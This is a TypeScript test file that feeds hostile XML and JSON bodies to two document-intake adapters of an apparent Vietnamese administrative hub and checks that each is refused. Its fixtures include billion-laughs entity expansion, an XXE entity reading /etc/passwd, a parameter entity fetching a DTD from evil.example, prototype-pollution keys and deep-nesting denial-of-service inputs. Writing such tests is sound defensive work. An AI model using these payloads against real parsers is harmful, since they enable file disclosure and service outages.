// Hostile inputs per format, each refused with the right code. The helper (runHostile) is shared: a format adds a
// corpus below. Body size itself is Fastify's bodyLimit (tested over HTTP by the lead); here a large-but-allowed
// batch must decode in time, and a batch over 500 items is refused as a whole.
import t, { type Test } from 'tap';
import { getAdapter } from '../../adapters/registry.js';
import { runHostile, request, tryDecode, type HostileCase } from '../../adapters/kit/conformance.js';
import type { Adapter } from '../../adapters/kit/contract.js';

function check(t: Test, adapter: Adapter, cases: HostileCase[]) {
  // Warm-up: the first decode pays for compiling the parse path and the I/O traps, not for the hostile body.
  runHostile(adapter, cases.slice(0, 1));
  for (const r of runHostile(adapter, cases)) {
    t.equal(r.got?.code, r.expected.code, `${r.name}: ${r.got?.message ?? 'accepted'}`);
    if (r.expected.path !== undefined) t.equal(r.got?.path, r.expected.path, `${r.name}: path`);
    t.ok(r.ms < (r.expected.withinMs ?? 1000), `${r.name}: ${r.ms.toFixed(1)} ms`);
  }
}

// ---- tnmt-xml ----
const hoSo = (attrs = '', inner = '') =>
  `<HoSo maHoSo="000.00.15.H12-261127-0007" maThuTuc="1.004227" ngayTiepNhan="2026-11-27T08:15:00" trangThai="2" ${attrs}>` +
  `<CoQuan ma="000.00.15.H12" cap="tinh"/><NguoiDeNghi loai="1"><HoTen>Lê Văn Cường</HoTen></NguoiDeNghi>${inner}</HoSo>`;
const goiTin = (items: string) => `<?xml version="1.0" encoding="UTF-8"?><GoiTin xmlns="urn:stnmt:motcua:v2"><DanhSachHoSo>${items}</DanhSachHoSo></GoiTin>`;
const XML = 'application/xml';
const B = '/GoiTin/DanhSachHoSo/HoSo';
const lolz = `<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">` +
  `<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>${goiTin(hoSo('', '<TrichYeu>&lol3;</TrichYeu>'))}`;

const tnmtCases: HostileCase[] = [
  { name: 'billion laughs', body: lolz, contentType: XML, code: 'HUB_REQUEST_DOCTYPE', path: '', withinMs: 50 },
  { name: 'external entity', body: `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>${goiTin(hoSo('', '<TrichYeu>&xxe;</TrichYeu>'))}`, contentType: XML, code: 'HUB_REQUEST_DOCTYPE' },
  { name: 'parameter entity', body: `<!DOCTYPE x [<!ENTITY % p SYSTEM "http://evil.example/p.dtd"> %p;]><GoiTin/>`, contentType: XML, code: 'HUB_REQUEST_DOCTYPE' },
  { name: 'plain DOCTYPE', body: `<!DOCTYPE GoiTin>${goiTin(hoSo())}`, contentType: XML, code: 'HUB_REQUEST_DOCTYPE' },
  { name: 'lower-case doctype', body: `<!doctype GoiTin>${goiTin(hoSo())}`, contentType: XML, code: 'HUB_REQUEST_DOCTYPE' },
  { name: 'DOCTYPE after a BOM', body: Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(`<!DOCTYPE a>${goiTin(hoSo())}`)]), contentType: XML, code: 'HUB_REQUEST_DOCTYPE' },
  { name: 'deep nesting', body: goiTin(hoSo('', '<a>'.repeat(10_000) + '</a>'.repeat(10_000))), contentType: XML, code: 'HUB_REQUEST_MALFORMED', withinMs: 200 },
  { name: 'very deep nesting', body: '<a>'.repeat(1_000_000), contentType: XML, code: 'HUB_REQUEST_MALFORMED', withinMs: 1000 },
  { name: '__proto__ element', body: goiTin(hoSo('', '<__proto__><polluted>yes</polluted></__proto__>')), contentType: XML, code: 'HUB_REQUEST_FORBIDDEN_KEY' },
  { name: 'prefixed constructor element', body: goiTin(hoSo('', '<x:constructor xmlns:x="u"><prototype/></x:constructor>')), contentType: XML, code: 'HUB_REQUEST_FORBIDDEN_KEY' },
  { name: '__proto__ attribute', body: goiTin(hoSo('__proto__="x"')), contentType: XML, code: 'HUB_REQUEST_FORBIDDEN_KEY' },
  { name: 'prototype attribute', body: goiTin(hoSo('x:prototype="x" xmlns:x="u"')), contentType: XML, code: 'HUB_REQUEST_FORBIDDEN_KEY' },
  { name: 'id="__proto__"', body: goiTin(hoSo('id="__proto__"')), contentType: XML, code: 'HUB_REQUEST_FORBIDDEN_KEY' },
  { name: 'href="constructor"', body: goiTin(hoSo('', '<GiayTo ten="a" href="constructor"/>')), contentType: XML, code: 'HUB_REQUEST_FORBIDDEN_KEY' },
  { name: 'invalid UTF-8', body: Buffer.concat([Buffer.from(goiTin(hoSo()).slice(0, 60)), Buffer.from([0xc3, 0x28, 0xff]), Buffer.from(goiTin(hoSo()).slice(60))]), contentType: XML, code: 'HUB_REQUEST_ENCODING' },
  { name: 'overlong UTF-8 "<"', body: Buffer.from([0xc0, 0xbc, 0x61, 0x2f, 0x3e]), contentType: XML, code: 'HUB_REQUEST_ENCODING' },
  { name: 'UTF-16 body', body: Buffer.from(`\ufeff${goiTin(hoSo())}`, 'utf16le'), contentType: XML, code: 'HUB_REQUEST_ENCODING' },
  { name: 'unknown status', body: goiTin(hoSo() + hoSo() + hoSo().replace('trangThai="2"', 'trangThai="7"')), contentType: XML, code: 'HUB_STATUS_UNKNOWN', path: `${B}/3/@trangThai` },
  { name: '31 February', body: goiTin(hoSo().replace('2026-11-27T08:15:00', '2026-02-31T08:15:00')), contentType: XML, code: 'HUB_DATE_INVALID', path: `${B}/1/@ngayTiepNhan` },
  { name: 'hour 25', body: goiTin(hoSo('hanXuLy="2026-12-01T25:00:00"')), contentType: XML, code: 'HUB_DATE_INVALID', path: `${B}/1/@hanXuLy` },
  { name: 'not XML', body: '{"GoiTin": {}}', contentType: XML, code: 'HUB_REQUEST_MALFORMED' },
  { name: 'empty body', body: '', contentType: XML, code: 'HUB_REQUEST_MALFORMED' },
  { name: '501 items', body: goiTin(hoSo().repeat(501)), contentType: XML, code: 'HUB_BATCH_TOO_LARGE', path: B },
  // Issue 8: backtracking shapes, characters XML cannot carry, foreign encodings and namespaces, undeclared prefixes.
  { name: "8 KB of '<a<a'", body: '<a' + '<a'.repeat(4095), contentType: XML, code: 'HUB_REQUEST_MALFORMED', withinMs: 100 },
  { name: "8 KB of '<!--'", body: '<GoiTin>' + '<!--'.repeat(2048), contentType: XML, code: 'HUB_REQUEST_MALFORMED', withinMs: 100 },
  { name: 'raw U+0001 in text', body: goiTin(hoSo('', '<TrichYeu>a\u0001b</TrichYeu>')), contentType: XML, code: 'HUB_REQUEST_MALFORMED' },
  { name: '&#1; in an attribute', body: goiTin(hoSo('soBienNhan="a&#1;"')), contentType: XML, code: 'HUB_REQUEST_MALFORMED' },
  { name: 'undefined entity', body: goiTin(hoSo('', '<TrichYeu>&nbsp;</TrichYeu>')), contentType: XML, code: 'HUB_REQUEST_MALFORMED' },
  { name: 'ISO-8859-1 declared', body: goiTin(hoSo()).replace('UTF-8', 'ISO-8859-1'), contentType: XML, code: 'HUB_REQUEST_ENCODING' },
  { name: 'undeclared prefix', body: goiTin(hoSo('', '<x:TrichYeu>a</x:TrichYeu>')), contentType: XML, code: 'HUB_REQUEST_MALFORMED' },
  { name: 'GoiTin in a foreign namespace', body: goiTin(hoSo()).replace('urn:stnmt:motcua:v2', 'urn:evil:v1'), contentType: XML, code: 'HUB_VALIDATION', path: '/GoiTin' },
];

// ---- undp-motcua ----
const undp = (over: Record<string, unknown> = {}) => JSON.stringify({
  so_ho_so: 'HS-1', ma_tthc: '2.000889', don_vi: { ma: '000.12.34.H12', cap: 'xa' }, nguoi_nop: 'Trần Thị B',
  ngay_nhan: '27/11/2026', gio_nhan: '08:45', tinh_trang: 'Đã tiếp nhận', ...over,
});
const JSON_TYPE = 'application/json';
const undpCases: HostileCase[] = [
  { name: '__proto__ key', body: '{"so_ho_so":"1","__proto__":{"polluted":"yes"}}', contentType: JSON_TYPE, code: 'HUB_REQUEST_FORBIDDEN_KEY', path: '/__proto__' },
  { name: 'escaped __proto__ key', body: '{"__pro\\u0074o__":{"polluted":"yes"}}', contentType: JSON_TYPE, code: 'HUB_REQUEST_FORBIDDEN_KEY' },
  { name: 'nested constructor.prototype', body: undp({ don_vi: { ma: '000.12.34.H12', constructor: { prototype: { polluted: 'yes' } } } }), contentType: JSON_TYPE, code: 'HUB_REQUEST_FORBIDDEN_KEY', path: '/don_vi/constructor' },
  { name: '__proto__ in a form', body: `data=${encodeURIComponent('{"__proto__":{"polluted":"yes"}}')}`, contentType: 'application/x-www-form-urlencoded', code: 'HUB_REQUEST_FORBIDDEN_KEY' },
  { name: 'deep nesting', body: '['.repeat(100_000) + ']'.repeat(100_000), contentType: JSON_TYPE, code: 'HUB_REQUEST_MALFORMED', withinMs: 500 },
  { name: 'invalid UTF-8', body: Buffer.concat([Buffer.from('{"so_ho_so":"'), Buffer.from([0xed, 0xa0, 0x80]), Buffer.from('"}')]), contentType: JSON_TYPE, code: 'HUB_REQUEST_ENCODING' },
  { name: 'bad %-escape in a form', body: 'data=%7B%22a%22%3A%22%C3%28%22%7D', contentType: 'application/x-www-form-urlencoded', code: 'HUB_REQUEST_ENCODING' },
  { name: 'unknown status text', body: undp({ tinh_trang: 'Đã hủy' }), contentType: JSON_TYPE, code: 'HUB_STATUS_UNKNOWN', path: '/tinh_trang' },
  { name: '31/02', body: undp({ ngay_nhan: '31/02/2026' }), contentType: JSON_TYPE, code: 'HUB_DATE_INVALID', path: '/ngay_nhan' },
  { name: '29/02 of a common year as deadline', body: undp({ ngay_hen: '29/2/2027' }), contentType: JSON_TYPE, code: 'HUB_DATE_INVALID', path: '/ngay_hen' },
  { name: '24:00', body: undp({ gio_nhan: '24:00' }), contentType: JSON_TYPE, code: 'HUB_DATE_INVALID', path: '/gio_nhan' },
  { name: 'huge fee', body: undp({ le_phi: 1e300 }), contentType: JSON_TYPE, code: 'HUB_VALIDATION', path: '/le_phi' },
  { name: 'negative fee', body: undp({ le_phi: -5 }), contentType: JSON_TYPE, code: 'HUB_VALIDATION', path: '/le_phi' },
  { name: 'object as text', body: undp({ nguoi_nop: { toString: 'x' } }), contentType: JSON_TYPE, code: 'HUB_VALIDATION', path: '/nguoi_nop' },
  { name: 'a batch array', body: `[${undp()}]`, contentType: JSON_TYPE, code: 'HUB_VALIDATION' },
  // Issue 8: duplicate keys and control characters.
  { name: 'duplicate key', body: undp().replace('"so_ho_so":"HS-1"', '"so_ho_so":"HS-1","so_ho_so":"HS-2"'), contentType: JSON_TYPE, code: 'HUB_REQUEST_MALFORMED', path: '/so_ho_so' },
  { name: 'nested duplicate key', body: undp({ don_vi: { ma: '000.12.34.H12', cap: 'xa' } }).replace('"cap":"xa"', '"cap":"xa","cap":"huyen"'), contentType: JSON_TYPE, code: 'HUB_REQUEST_MALFORMED', path: '/don_vi/cap' },
  { name: 'U+0001 in a text', body: undp({ nguoi_nop: 'Trần\u0001Thị B' }), contentType: JSON_TYPE, code: 'HUB_VALIDATION', path: '/nguoi_nop' },
  { name: 'U+FFFF in a nested text', body: undp({ don_vi: { ma: '000.12.34.H12', cap: 'xa', ten: 'x\uFFFF' } }), contentType: JSON_TYPE, code: 'HUB_VALIDATION', path: '/don_vi/ten' },
];

t.test('tnmt-xml hostile corpus', async (t) => check(t, getAdapter('tnmt-xml')!, tnmtCases));
t.test('undp-motcua hostile corpus', async (t) => check(t, getAdapter('undp-motcua')!, undpCases));

t.test('after the prototype cases nothing is polluted and decoding still works', async (t) => {
  t.equal(({} as Record<string, unknown>).polluted, undefined);
  t.equal((Object.prototype as Record<string, unknown>).polluted, undefined);
  const x = tryDecode(getAdapter('tnmt-xml')!, request(goiTin(hoSo()), XML));
  t.equal(x.result?.items[0]?.op?.kind, 'change');
  const u = tryDecode(getAdapter('undp-motcua')!, request(undp(), JSON_TYPE));
  t.equal(u.result?.items[0]?.op?.kind, 'change');
});

t.test('a large batch within limits: 500 items decode in time, each its own raw bytes', async (t) => {
  const big = '<TrichYeu>' + 'Chuyển nhượng quyền sử dụng đất. '.repeat(300) + '</TrichYeu>';
  const body = goiTin(Array.from({ length: 500 }, (_, i) => hoSo(`soBienNhan="VPDK-${i}"`, big)).join('\n'));
  t.ok(body.length > 4_000_000, `${(body.length / 1e6).toFixed(1)} MB`);
  const t0 = performance.now();
  const { result, thrown } = tryDecode(getAdapter('tnmt-xml')!, request(body, XML));
  const ms = performance.now() - t0;
  t.notOk(thrown, thrown?.message ?? 'decoded');
  t.equal(result?.items.length, 500);
  t.equal(result?.items.filter((i) => i.op).length, 500);
  t.ok(result?.items[499]?.raw.toString('utf8').includes('VPDK-499'), 'the last item has its own raw bytes');
  t.ok(ms < 5000, `${ms.toFixed(0)} ms`);
});
